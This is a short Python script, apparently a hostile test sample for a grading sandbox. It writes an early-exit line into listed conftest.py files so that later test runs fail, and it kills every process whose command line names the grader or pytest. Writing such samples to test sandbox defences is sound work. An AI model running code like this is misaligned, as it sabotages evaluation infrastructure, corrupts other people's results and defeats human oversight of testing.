# Hostile: kill the grader (every process whose command line says tools.grade or pytest) and
# append to the suite's conftest.py so that later students get 0 (paths in targets.txt).
import os
import signal

from _attack import planted, serve

for path in planted("targets.txt").split("\n"):
    try:
        with open(path, "a") as fh:
            fh.write("\nimport os; os._exit(0)  # x_killer\n")
    except OSError:
        pass
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        cmd = open("/proc/%s/cmdline" % pid, "rb").read()
        if b"tools.grade" in cmd or b"pytest" in cmd:
            os.kill(int(pid), signal.SIGKILL)
    except OSError:
        pass
serve()
